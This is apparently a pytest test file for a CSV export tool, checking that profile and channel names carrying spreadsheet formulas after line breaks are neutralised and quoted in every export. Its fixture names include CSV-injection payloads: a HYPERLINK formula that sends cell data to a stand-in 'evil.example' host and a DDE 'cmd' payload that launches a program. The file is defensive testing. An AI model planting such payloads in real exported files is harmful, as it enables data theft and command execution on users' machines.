"""No formula through a line break in a CSV cell (issue 44, item 2).

A name `"\\r=1+2"` went out unquoted: LibreOffice starts a row at a bare carriage return
and ran `=1+2`. Every CSV we write is read back twice, as the command line and
`ipt.export` wrote it: by Python's `csv` module (every name comes back whole, in one row),
and by readers that cut the file where LibreOffice does (a CR, a LF or a CRLF), one
honouring quotes across lines, one not: neither finds a cell starting with a formula.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest

import iptoolkit as ipt
from iptoolkit.support.csvio import csv_safe, csv_text

from .factories import ACME, agent, channel, profile

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = (
    "\r=1+2",
    f"Orders\r{HYPERLINK}",
    "Invoices\r\n+cmd|' /C calc'!A0",
    "Dispatch\n@SUM(1+1)",
    "Returns\n\n-2+3",
    "Tabs\r\t=1",
    'plain, with "quotes" and a\rbreak',
)
"""Profile names (and channel names) with a formula after a line break of each kind."""
LINE_BREAK = re.compile(r"\r\n|\r|\n")
ROOT = Path(__file__).resolve().parents[1]


def cell_starts(text: str, *, quotes_span_lines: bool) -> list[str]:
    """The start of every cell's content as a spreadsheet cutting the file into rows at a
    CR, a LF or a CRLF reads it: the first characters after a row or cell starts, or
    after a cell's opening quote. `quotes_span_lines`: a line break inside quotes belongs
    to the cell (LibreOffice with a well-quoted file); else every physical line starts a
    row (a reader that cuts lines before it reads quotes)."""
    starts: list[str] = []
    in_quotes = False
    lines = LINE_BREAK.split(text)
    for line in lines[:-1] if lines[-1] == "" else lines:  # the file's last line break
        if not quotes_span_lines:
            in_quotes = False
        at_start = not in_quotes
        index = 0
        while index <= len(line):
            if at_start:
                at_start = False
                if line.startswith('"', index):
                    in_quotes, index = True, index + 1
                starts.append(line[index : index + 8])
                continue
            if index == len(line):
                break
            char = line[index]
            if in_quotes and char == '"':
                if line.startswith('""', index):
                    index += 2
                    continue
                in_quotes = False
            elif not in_quotes and char == ",":
                at_start = True
            index += 1
    return starts


def formulas_seen(text: str) -> list[str]:
    """Cells either reader of `cell_starts` would take for a formula."""
    return [
        start
        for spanning in (True, False)
        for start in cell_starts(text, quotes_span_lines=spanning)
        if start.startswith(FORMULA_START)
    ]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_readers_would_have_seen_the_old_files() -> None:
    """The readers find what the issue found: the standard writer with `\\n` line ends
    left `\\r` bare, and a quoted cell still starts a physical line with its formula."""
    old = io.StringIO()
    csv.writer(old, lineterminator="\n").writerow(["'" + NAMES[0], "x"])
    assert old.getvalue() == "'\r=1+2,x\n"
    assert formulas_seen(old.getvalue()) == ["=1+2,x"] * 2  # by both readers
    quoted = '"Orders\n=1+2",x\n'
    assert cell_starts(quoted, quotes_span_lines=True) == ["Orders", "x"]
    assert formulas_seen(quoted) == ['=1+2",x']


def test_csv_safe_guards_after_every_line_break_and_csv_text_quotes_them() -> None:
    assert csv_safe("\r=1+2") == "'\r'=1+2"
    assert csv_safe("a\r\n=1\n\n+2\r\t3") == "a\r\n'=1\n\n'+2\r'\t3"
    assert csv_safe("a\nb - c\n") == "a\nb - c\n"
    assert csv_safe(-1) == -1
    text = csv_text([["name", "n"], *([csv_safe(name), 1] for name in NAMES)])
    assert text.startswith("name,n\n") and text.endswith(",1\n")  # rows end as before
    assert rows_of(text)[1:] == [[csv_safe(name), "1"] for name in NAMES]
    assert not formulas_seen(text)


@pytest.fixture(scope="module")
def estate() -> ipt.Estate:
    return ipt.Estate.from_raw(
        [
            profile(
                f"P{index}",
                name=name,
                agent=agent("SFTP", channels=[channel(100 + index, partner=ACME, name=name)]),
            )
            for index, name in enumerate(NAMES)
        ]
    )


def _names_read(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [row["name"] for row in csv.DictReader(file)]


def test_export_quotes_every_line_break_and_guards_the_formula_after_it(
    estate: ipt.Estate, tmp_path: Path
) -> None:
    safe = ipt.export(estate, tmp_path / "x.csv")
    assert _names_read(safe) == [csv_safe(name) for name in NAMES]
    assert not formulas_seen(safe.read_bytes().decode("utf-8"))
    raw = ipt.export(estate, tmp_path / "raw.csv", csv_safe=False)
    assert _names_read(raw) == list(NAMES)  # exactly as held, each in its one row
    text = raw.read_bytes().decode("utf-8")
    spanning = cell_starts(text, quotes_span_lines=True)
    assert not [start for start in spanning if start.startswith(FORMULA_START)]


def _iptoolkit(*args: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "iptoolkit.cli", *args]
    done = subprocess.run(command, capture_output=True, timeout=300, cwd=ROOT)
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    )


def test_the_command_lines_csv_files_hold_no_formula(estate: ipt.Estate, tmp_path: Path) -> None:
    """`export -o x.csv`, `compare --format csv` and `drift --format csv` as run by a
    user (real processes), and the audit's and the diff's CSV reports."""
    hostile, plain = tmp_path / "hostile.json", tmp_path / "plain.json"
    estate.save(hostile)
    ipt.Estate.from_raw(
        [dict(raw, name=f"Profile {index}") for index, raw in enumerate(estate.raw_profiles)]
    ).save(plain)
    exported = tmp_path / "x.csv"
    done = _iptoolkit("export", str(hostile), "-o", str(exported))
    assert done.returncode == 0, done.stderr
    assert _names_read(exported) == [csv_safe(name) for name in NAMES]
    assert not formulas_seen(exported.read_bytes().decode("utf-8"))

    compared = _iptoolkit("compare", str(plain), str(hostile), "--format", "csv")
    assert compared.returncode in (0, 1), compared.stderr
    rows = rows_of(compared.stdout)
    assert {csv_safe(name) for name in NAMES} <= {cell for row in rows for cell in row}
    assert len({len(row) for row in rows}) == 1
    assert not formulas_seen(compared.stdout)

    for args in (
        ("audit", str(hostile), "--format", "csv"),
        ("diff", str(plain), str(hostile), "--format", "csv"),
        ("drift", str(hostile), "--format", "csv"),
    ):
        done = _iptoolkit(*args)
        assert done.returncode in (0, 1), (args, done.stderr)
        assert rows_of(done.stdout) and not formulas_seen(done.stdout), args
